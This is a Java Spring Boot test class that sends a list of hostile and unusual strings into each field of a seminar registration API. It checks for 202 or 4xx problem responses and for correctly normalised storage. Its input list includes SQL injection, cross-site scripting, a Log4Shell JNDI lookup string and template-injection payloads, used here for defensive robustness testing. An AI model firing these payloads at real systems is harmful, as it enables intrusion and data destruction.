package org.npmportal.registration.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.npmportal.registration.api.RegistrationApiClient.json;
import static org.npmportal.registration.api.RegistrationApiClient.person;

import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.text.Normalizer;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.npmportal.seminar.SeminarService;
import org.npmportal.seminar.api.TestSeminars;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.test.context.support.WithUserDetails;
import org.springframework.test.context.ActiveProfiles;
import tools.jackson.core.json.JsonWriteFeature;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Hostile and odd text in every field of the API: each answer is 202 or a 4xx with problem details,
 * never a 5xx, and what is stored is what was sent, after the documented normalisation (surrounding
 * white space stripped, runs of spaces collapsed, Unicode NFC).
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@ActiveProfiles({"test", "demo"})
@WithUserDetails("organiser")
class RegistrationApiNastyInputTest {

    /** Writes every character outside ASCII as a JSON escape, so that even a lone surrogate arrives as sent. */
    private static final JsonMapper ESCAPING = JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

    private static final List<String> NASTY = List.of(
            "😀", "Әсел 😀 Қасымова", "👩‍👩‍👧", "Ә\u200dсел Қасымова", "Әсел\u200b Қасымова",
            "\u200fعلي بن محمد\u200f", "علي بن محمد", "\u202eавомысаҚ лесӘ", "\u2066Әсел\u2069",
            "\u0000", "Әсел\u0000Қасымова", "\u0085Әсел", "\u009b31mӘсел", "\uFEFFӘсел", "\uD800", "Әсел\uDFFF",
            "\uDBFF\uDFFF", "\uFFFF", "Әсел\u2028Қасымова", "Әсел\r\nҚасымова", "Әсел\tҚасымова",
            "a".repeat(10_000), "Ә".repeat(5_000), "Ә ".repeat(4_000) + "Ә", "a@" + "a.".repeat(7_000) + "kz",
            "ж\n".repeat(3_500), "Ә".repeat(200), "Ә".repeat(201), "x".repeat(1_001),
            "'; DROP TABLE registration; --", "Robert'); DROP TABLE registration;--", "\" OR 1=1 --",
            "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "javascript:alert(1)",
            "${jndi:ldap://example.invalid/a}", "{{7*7}}", "#{7*7}", "%s%n%x", "\\", "\"", "{0}", "'",
            "", " ", "   Әсел   Қасымова   ", "e\u0301", "Аи\u0306гүл", "Ｆｕｌｌｗｉｄｔｈ", "Ὀδυσσεύς",
            "O'Brien", "д’Артаньян", "Жан-Пьер", "St. John", "-", "..", "null", "true", "0", "KARAGANDA", "kk");

    private static final List<String> FIELDS = List.of("fullName", "email", "organisation", "position", "region",
            "language", "needs", "website", "invitationToken");

    /** The fields the service stores as the person typed them, by their column. */
    private static final Map<String, String> STORED_AS_TYPED = Map.of("fullName", "full_name",
            "organisation", "organisation", "position", "job_position", "needs", "needs");

    @LocalServerPort
    int port;

    @Autowired
    SeminarService seminars;

    @Autowired
    JdbcTemplate jdbc;

    @Test
    void hostile_text_in_any_field_answers_202_or_a_4xx_problem_and_is_stored_exactly_when_accepted() {
        var stored = new StoredRegistrations(jdbc);
        long seminar = TestSeminars.publish(seminars, TestSeminars.draft(TestSeminars.kazakhTitle(), 40));
        String domain = UUID.randomUUID().toString().substring(0, 8) + ".example.kz";
        int n = 0;
        for (String input : NASTY) {
            try (var api = RegistrationApiClient.fromNewAddress(port)) {
                for (String field : FIELDS) {
                    String email = "p" + n++ + "@" + domain;
                    var body = person("Әсел Қасымова", email);
                    body.put(field, input);
                    String what = field + " = " + printable(input);

                    HttpResponse<String> response = api.post("/api/seminars/" + seminar + "/registrations",
                            "application/json", BodyPublishers.ofString(survivesUtf8(input)
                                    ? RegistrationApiClient.JSON.writeValueAsString(body)
                                    : ESCAPING.writeValueAsString(body)));

                    assertThat(response.statusCode()).as(what).isIn(202, 400, 413);
                    if (response.statusCode() != 202) {
                        assertThat(response.headers().firstValue("Content-Type")).as(what)
                                .contains("application/problem+json");
                        JsonNode problem = json(response);
                        assertThat(problem.get("status").asInt()).as(what).isEqualTo(response.statusCode());
                        assertThat(problem.get("detail").asString()).as(what).isNotBlank();
                        assertThat(stored.withEmail(email)).as(what).isEmpty();
                    } else if (field.equals("website") && !input.isBlank()) {
                        assertThat(stored.withEmail(email)).as(what).isEmpty();
                    } else if (STORED_AS_TYPED.containsKey(field)) {
                        assertThat(stored.one(email).get(STORED_AS_TYPED.get(field))).as(what)
                                .isEqualTo(normalised(input));
                    }
                }
            }
        }
    }

    /** The normalisation RegistrationRequest documents: strip, collapse runs of spaces, NFC; blank is absent. */
    private static String normalised(String input) {
        String stripped = input.strip();
        return stripped.isEmpty() ? null
                : Normalizer.normalize(stripped.replaceAll(" {2,}", " "), Normalizer.Form.NFC);
    }

    /** Whether UTF-8 can carry the text as it is; a lone surrogate cannot, and must be sent escaped. */
    private static boolean survivesUtf8(String input) {
        return input.equals(new String(input.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8));
    }

    private static String printable(String input) {
        String shown = input.length() > 40 ? input.substring(0, 40) + "… (" + input.length() + ")" : input;
        var out = new StringBuilder();
        shown.codePoints().forEach(c -> out.append(c < 0x20 || (c >= 0x7f && c < 0xa0) || Character.getType(c)
                == Character.FORMAT || Character.getType(c) == Character.SURROGATE
                ? String.format("\\u%04x", c) : Character.toString(c)));
        return out.toString();
    }
}
